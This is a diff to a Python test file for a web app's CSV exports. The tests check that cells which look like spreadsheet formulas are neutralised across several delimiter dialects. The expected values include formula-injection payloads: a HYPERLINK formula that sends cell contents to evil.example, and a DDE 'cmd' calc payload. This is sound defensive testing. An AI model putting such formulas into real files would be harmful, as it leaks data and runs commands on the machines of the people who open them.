@@ -33,17 +33,31 @@ def hostile_client(catalog):
     return create_app(settings(), source=fixed_source(snapshot)).server.test_client(), snapshot
 
 
-def _rows(body: bytes) -> list[list[str]]:
+# Every CSV dialect: the query, its field separator, and how -3.5 is written.
+DIALECT_QUERIES = [
+    ("", ";", "-3,5"),
+    ("?lang=en", ",", "-3.5"),
+    ("?format=csv-no&lang=en", ";", "-3,5"),
+    ("?format=csv-en", ",", "-3.5"),
+]
+QUERIES = [query for query, _, _ in DIALECT_QUERIES]
+
+
+def _rows(body: bytes, delimiter: str = ";") -> list[list[str]]:
     assert body.startswith(b"\xef\xbb\xbf")
-    return list(csv.reader(io.StringIO(body[3:].decode("utf-8")), delimiter=";"))
+    return list(csv.reader(io.StringIO(body[3:].decode("utf-8")), delimiter=delimiter))
 
 
-@pytest.mark.parametrize("query", ["", "?lang=en"])
+def _delimiter(query: str) -> str:
+    return next(d for q, d, _ in DIALECT_QUERIES if q == query)
+
+
+@pytest.mark.parametrize("query", QUERIES)
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_client, query):
     client, _ = hostile_client
     response = client.get(f"/data/utslipp.csv{query}")
     assert response.status_code == 200
-    rows = _rows(response.get_data())[1:]
+    rows = _rows(response.get_data(), _delimiter(query))[1:]
     by_year = {row[2]: row for row in rows}
     assert by_year["2019"][:2] == ["K-5001", '\'=HYPERLINK("https://evil.example/?"&A1;"Trondheim")']
     assert by_year["2020"][:2] == ["'+47", "'@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -53,12 +67,29 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_client, 
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)
 
 
-@pytest.mark.parametrize("query", ["", "?lang=en"])
-def test_negative_numbers_stay_numbers(hostile_client, query):
+@pytest.mark.parametrize(("query", "delimiter", "minus_three_and_a_half"), DIALECT_QUERIES)
+def test_negative_numbers_stay_numbers(hostile_client, query, delimiter, minus_three_and_a_half):
     client, _ = hostile_client
-    rows = _rows(client.get(f"/data/utslipp.csv{query}").get_data())[1:]
+    rows = _rows(client.get(f"/data/utslipp.csv{query}").get_data(), delimiter)[1:]
     values = {row[2]: row[3] for row in rows}
-    assert values == {"2019": "-3,5", "2020": "-0,25", "2021": "", "2022": "1234,5"}
+    decimal = minus_three_and_a_half[2]
+    assert values == {
+        "2019": minus_three_and_a_half,
+        "2020": f"-0{decimal}25",
+        "2021": "",
+        "2022": f"1234{decimal}5",
+    }
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_the_bulk_csv_neutralises_formulas_too(hostile_client, query):
+    client, _ = hostile_client
+    response = client.get(f"/data/all.csv{query}")
+    assert response.status_code == 200
+    rows = [row for row in _rows(response.get_data(), _delimiter(query))[1:] if row[0] == "utslipp"]
+    assert {row[4]: row[5] for row in rows}["2019"] == next(m for q, _, m in DIALECT_QUERIES if q == query)
+    text_cells = [cell for row in rows for i, cell in enumerate(row) if i not in (4, 5)]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)
 
 
 def test_the_static_export_writes_the_same_neutralised_text(hostile_client):
@@ -67,7 +98,7 @@ def test_the_static_export_writes_the_same_neutralised_text(hostile_client):
     data = build_data(snapshot)
     for lang in ("no", "en"):
         text = csv_text(data, "utslipp", lang)  # type: ignore[arg-type]
-        assert "'=HYPERLINK" in text and ";=" not in text and "\n=" not in text
+        assert "'=HYPERLINK" in text and ";=" not in text and ",=" not in text and "\n=" not in text
 
 
 def test_only_text_that_starts_like_a_formula_changes():
